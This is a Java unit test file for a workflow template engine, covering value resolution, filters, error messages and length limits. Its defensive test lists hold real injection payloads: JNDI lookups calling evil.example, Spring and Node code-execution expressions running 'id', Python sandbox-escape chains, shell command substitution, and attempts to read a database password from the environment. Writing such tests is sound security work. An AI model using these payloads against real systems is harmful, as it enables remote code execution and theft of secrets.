package dev.quayside.workflow.definition;

import static dev.quayside.workflow.definition.Definitions.json;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.quayside.base.Json;
import dev.quayside.base.ProblemException;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.IntNode;
import tools.jackson.databind.node.MissingNode;
import tools.jackson.databind.node.StringNode;

class TemplateTest {
    private static final TemplateScope SCOPE = new Scope(Map.of("HOME", "/home/quay"));

    /// @param environment what the settings allow
    private record Scope(Map<String, String> environment) implements TemplateScope {
        private static final JsonNode INPUTS = json("""
                {'name': 'Ada', 'n': 7, 'price': 12.345, 'yes': true, 'nothing': null, 'empty': [], 'blank': '  x ',
                 'list': [3, 'b', 3, {'k': 'v'}], 'object': {'a': 1, 'b': 'two'}, 'a b': {'c.d': ['deep']},
                 'quote\\\\'s': 1, 'dirty': '{{ env.HOME }} ${x}', 'huge': 1e1000, 'text': 'a,b,,c', 'code': 'eyJhIjoxfQ=='}
                """.replace("\\\\'", "\\u0027"));

        @Override
        public JsonNode inputs() {
            return INPUTS;
        }

        @Override
        public JsonNode stepOutput(String step) {
            return step.equals("load")
                    ? json("{'body': {'items': [{'id': 1}, {'id': 2}]}}")
                    : MissingNode.getInstance();
        }

        @Override
        public JsonNode variable(String name) {
            return name.equals("limit") ? IntNode.valueOf(3) : MissingNode.getInstance();
        }

        @Override
        public JsonNode environment(String name) {
            String value = environment.get(name);
            if (value == null) {
                throw new ProblemException("template.env-denied", "The settings do not allow " + name);
            }
            return StringNode.valueOf(value);
        }

        @Override
        public JsonNode special(String name) {
            return name.equals("index") ? IntNode.valueOf(4) : MissingNode.getInstance();
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '¦', quoteCharacter = '~', textBlock = """
        {{ inputs.name }}                     ¦ "Ada"
        {{inputs.n}}                          ¦ 7
        {{ inputs.price }}                    ¦ 12.345
        {{ inputs.yes }}                      ¦ true
        {{ inputs.nothing }}                  ¦ null
        {{ inputs.empty }}                    ¦ []
        {{ inputs.object }}                   ¦ {"a":1,"b":"two"}
        {{ inputs . object . b }}             ¦ "two"
        {{ inputs['object']["b"] }}           ¦ "two"
        {{ inputs["a b"]['c.d'][0] }}         ¦ "deep"
        {{ inputs['quote\\'s'] }}             ¦ 1
        {{ inputs.list[1] }}                  ¦ "b"
        {{ inputs.list[-1].k }}               ¦ "v"
        {{ steps.load.body.items[1].id }}     ¦ 2
        {{ steps['load'].body.items[-2].id }} ¦ 1
        {{ variables.limit }}                 ¦ 3
        {{ env.HOME }}                        ¦ "/home/quay"
        {{ index }}                           ¦ 4
        Dear {{ inputs.name }},               ¦ "Dear Ada,"
        {{ inputs.n }}{{ inputs.n }}          ¦ "77"
        is {{ inputs.yes }} of {{ inputs.nothing }} ¦ "is true of null"
        see {{ inputs.object }}!              ¦ "see {"a":1,"b":"two"}!"
        {{ inputs.dirty }}                    ¦ "{{ env.HOME }} ${x}"
        {{ inputs.gone | default('x}}y') }}   ¦ "x}}y"
        {{ inputs.gone | default({"a": {"b": {}}}) }} ¦ {"a":{"b":{}}}
        {{ inputs.gone.further[3] | default([1, {"a": ","}]) }} ¦ [1,{"a":","}]
        {{ inputs.nothing | default(0) }}     ¦ 0
        {{ inputs.n | default(0) }}           ¦ 7
        {{ inputs.gone | upper | default('none') }} ¦ "none"
        {{ inputs.empty | first | upper | default('none') }} ¦ "none"
        {{ inputs.name | upper | lower }}     ¦ "ada"
        {{ inputs.name | upper() }}           ¦ "ADA"
        {{ inputs.blank | trim }}             ¦ "x"
        {{ inputs.name | length }}            ¦ 3
        {{ inputs.list | length }}            ¦ 4
        {{ inputs.object | length }}          ¦ 2
        {{ inputs.list | text }}              ¦ "[3,"b",3,{"k":"v"}]"
        {{ inputs.n | text }}                 ¦ "7"
        {{ inputs.gone | default(' 12 ') | number }} ¦ 12
        {{ inputs.gone | default('1.50') | number }} ¦ 1.50
        {{ inputs.price | round(1) }}         ¦ 12.3
        {{ inputs.price | round(2) }}         ¦ 12.35
        {{ inputs.price | round(-5) }}        ¦ 12
        {{ inputs.object | json | from_json }} ¦ {"a":1,"b":"two"}
        {{ inputs.list | first }}             ¦ 3
        {{ inputs.list | last }}              ¦ {"k":"v"}
        {{ inputs.list | join(' - ') }}       ¦ "3 - b - 3 - {"k":"v"}"
        {{ inputs.empty | join(',') }}        ¦ ""
        {{ inputs.text | split(',') }}        ¦ ["a","b","","c"]
        {{ inputs.text | replace(',', ';') }} ¦ "a;b;;c"
        {{ inputs.text | replace('', '-') }}  ¦ "-a-,-b-,-,-c-"
        {{ inputs.object | keys }}            ¦ ["a","b"]
        {{ inputs.object | values }}          ¦ [1,"two"]
        {{ inputs.list | unique }}            ¦ [3,"b",{"k":"v"}]
        {{ inputs.name | base64 }}            ¦ "QWRh"
        {{ inputs.code | base64_decode }}     ¦ "{"a":1}"
        {{ inputs['blank'] | url_encode }}    ¦ "%20%20x%20"
        """)
    void aTemplateBecomesItsValue(String template, String value) {
        JsonNode resolved = resolve(StringNode.valueOf(template));
        assertThat(resolved.isString() ? '"' + resolved.stringValue() + '"' : Json.write(resolved))
                .isEqualTo(value);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '¦', quoteCharacter = '~', textBlock = """
        {{ inputs.n | upper }}             ¦ failed in upper: it needs a text, not a number
        {{ inputs.nothing | lower }}       ¦ failed in lower: it needs a text, not null
        {{ inputs.n | trim }}              ¦ failed in trim: it needs a text, not a number
        {{ inputs.n | length }}            ¦ failed in length: it needs a text, not a number
        {{ inputs.name | number }}         ¦ failed in number: 'Ada' is not a number
        {{ inputs.list | number }}         ¦ failed in number: it needs a text, not a list
        {{ inputs.name | round(2) }}       ¦ failed in round: 'Ada' is not a number
        {{ inputs.name | from_json }}      ¦ failed in from_json: Not valid JSON
        {{ inputs.name | join(',') }}      ¦ failed in join: it needs a list, not a text
        {{ inputs.list | join(1) }}        ¦ failed in join: it needs a text, not a number
        {{ inputs.name | split('') }}      ¦ failed in split: the separator must not be empty
        {{ inputs.list | split(',') }}     ¦ failed in split: it needs a text, not a list
        {{ inputs.list | replace('a', 'b') }} ¦ failed in replace: it needs a text, not a list
        {{ inputs.object | first }}        ¦ failed in first: it needs a list, not an object
        {{ inputs.name | last }}           ¦ failed in last: it needs a list, not a text
        {{ inputs.list | keys }}           ¦ failed in keys: it needs an object, not a list
        {{ inputs.name | unique }}         ¦ failed in unique: it needs a list, not a text
        {{ inputs.n | base64 }}            ¦ failed in base64: it needs a text, not a number
        {{ inputs.text | base64_decode }}  ¦ failed in base64_decode: Illegal base64 character
        """)
    void aFunctionThatCannotWorkSaysWhy(String template, String message) {
        assertThatThrownBy(() -> resolve(StringNode.valueOf(template)))
                .isInstanceOf(ProblemException.class)
                .hasMessageContaining("The template " + template + " " + message)
                .hasMessageContaining("[template.function]");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{ inputs.gone }}",
                "{{ inputs.name.first }}",
                "{{ inputs.list[9] }}",
                "{{ inputs.list[-9] }}",
                "{{ inputs.object[0] }}",
                "{{ steps.other.body }}",
                "{{ variables.other }}",
                "{{ item }}",
                "{{ inputs.empty | first }}",
                "{{ inputs.gone | upper }}",
                "Dear {{ inputs.gone }}"
            })
    void aPathThatLeadsNowhereIsNamed(String template) {
        assertThatThrownBy(() -> resolve(StringNode.valueOf(template)))
                .isInstanceOf(ProblemException.class)
                .hasMessageContaining(template.substring(template.indexOf("{{")))
                .hasMessageContaining("names something that is not there")
                .hasMessageContaining("[template.missing]");
    }

    @Test
    void onlyValuesAreTemplatesAndOnlyWhereTheyStand() {
        JsonNode resolved = resolve(
                json("{'{{ inputs.name }}': ['{{ inputs.n }}', {'x': 'a {{ inputs.n }}'}, 1, null], 'y': '}} {'}"));
        assertThat(resolved).isEqualTo(json("{'{{ inputs.name }}': [7, {'x': 'a 7'}, 1, null], 'y': '}} {'}"));
    }

    @Test
    void jsonWithoutATemplateStaysTheSameObject() {
        JsonNode plain = json("{'a': [1, {'b': 'c'}], 'd': '$x'}");
        assertThat(resolve(plain)).isSameAs(plain);
    }

    @Test
    void environmentIsReadOnlyWhereTheSettingsAllow() {
        assertThatThrownBy(() -> resolve(StringNode.valueOf("{{ env.DB_PASSWORD }}")))
                .isInstanceOf(ProblemException.class)
                .hasMessageContaining("[template.env-denied]");
        assertThatThrownBy(() -> resolve(StringNode.valueOf("{{ env.DB_PASSWORD | default('x') }}")))
                .isInstanceOf(ProblemException.class)
                .hasMessageContaining("[template.env-denied]");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${7*7}",
                "#{7*7}",
                "${jndi:ldap://evil.example/a}",
                "${${lower:j}ndi:dns://evil.example}",
                "${env:DB_PASSWORD}",
                "<%= 7*7 %>",
                "{% for x in y %}{% endfor %}",
                "{%raw%}",
                "*{T(java.lang.Runtime).getRuntime().exec('id')}",
                "@{7*7}",
                "$(id)",
                "`id`",
                "{ {7*7} }",
                "}}{",
                "{7*7}",
                "={{",
                "%7B%7B7*7%7D%7D"
            })
    void whatOtherEnginesWouldEvaluateStaysText(String payload) {
        if (!payload.contains("{{")) {
            assertThat(resolve(StringNode.valueOf(payload))).isEqualTo(StringNode.valueOf(payload));
        } else {
            assertThat(errors(payload)).isNotEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{ ''.class }}",
                "{{ ''.__class__.__mro__[1].__subclasses__() }}",
                "{{ 7*7 }}",
                "{{ 7 }}",
                "{{ config }}",
                "{{ self.__init__.__globals__ }}",
                "{{ inputs.constructor('return process')() }}",
                "={{ $json.constructor.constructor('return this')() }}",
                "={{ (function(){ return this.process.mainModule.require('child_process').execSync('id') })() }}",
                "{{ $env.DB_PASSWORD }}",
                "{{ process.env.DB_PASSWORD }}",
                "{{ System.getenv('DB_PASSWORD') }}",
                "{{ T(java.lang.System).getenv() }}",
                "{{ inputs.name.getClass().forName('java.lang.Runtime') }}",
                "{{ inputs.x ? 1 : 2 }}",
                "{{ inputs.x + env.DB_PASSWORD }}",
                "{{ inputs[env.DB_PASSWORD] }}",
                "{{ inputs[inputs.name] }}",
                "{{ inputs.name | default(env.DB_PASSWORD) }}",
                "{{ inputs.name | attr('class') }}",
                "{{ inputs.name | map('class') }}",
                "{{ inputs.name | filter('system') }}",
                "{{ inputs.x; env.DB_PASSWORD }}",
                "{{ {{ env.DB_PASSWORD }} }}",
                "{{= env.DB_PASSWORD }}",
                "{{{ env.DB_PASSWORD }}}",
                "{{#with env}}{{DB_PASSWORD}}{{/with}}",
                "{{ env }}",
                "{{ env[0] }}",
                "{{ steps }}",
                "{{ 'inputs'.name }}"
            })
    void payloadsOfTemplateInjectionAreRefused(String payload) {
        assertThat(errors(payload)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{ inputs.name.class }}",
                "{{ inputs.constructor }}",
                "{{ inputs['__proto__'] }}",
                "{{ inputs.__class__.__mro__ }}",
                "{{ run.class.classLoader }}",
                "{{ error.cause.stackTrace }}"
            })
    void namesThatMeanSomethingElsewhereAreJustNames(String payload) {
        assertThatThrownBy(() -> resolve(StringNode.valueOf(payload)))
                .isInstanceOf(ProblemException.class)
                .hasMessageContaining("[template.missing]");
    }

    @Test
    void aNumberThatWasRoundedCanBeReadAgain() {
        assertThatThrownBy(() -> resolve(StringNode.valueOf("{{ inputs.huge | round(100) }}")))
                .isInstanceOf(ProblemException.class)
                .hasMessageContaining("too large or too small to round");
    }

    @ParameterizedTest
    @ValueSource(strings = {" | replace('a', 'aaaaaaaaaaaaaaaa')", " | replace('\\\\', '\\\\\\\\\\\\\\\\')"})
    void aTextCannotBeMadeToGrowWithoutBound(String call) {
        String template = "{{ inputs.dirty | default('') | replace('x', 'a\\\\') | json" + call.repeat(40) + " }}";
        assertThatThrownBy(() -> resolve(StringNode.valueOf(template)))
                .isInstanceOf(ProblemException.class)
                .hasMessageContaining("too long");
    }

    @Test
    void aTextAroundTemplatesCannotGrowWithoutBoundEither() {
        String big = "{{ inputs.name | replace('Ada', '" + "x".repeat(1_000_000) + "') }}";
        assertThatThrownBy(() -> resolve(StringNode.valueOf(big + "{{ inputs.name }}" + big.repeat(20))))
                .isInstanceOf(ProblemException.class)
                .hasMessageContaining("[template.too-long]");
    }

    @Test
    void aBackslashMakesBracesPlain() {
        assertThat(resolve(StringNode.valueOf("f'\\{{x}}' {{ inputs.missing | default(1) }}")))
                .isEqualTo(StringNode.valueOf("f'{{x}}' 1"));
    }

    private static JsonNode resolve(JsonNode json) {
        DefinitionErrors errors = new DefinitionErrors();
        Template template = Template.of(json, "", errors);
        assertThat(errors.all()).isEmpty();
        return template.resolve(SCOPE);
    }

    private static java.util.List<DefinitionError> errors(String text) {
        DefinitionErrors errors = new DefinitionErrors();
        Template.of(StringNode.valueOf(text), "", errors);
        return errors.all();
    }
}
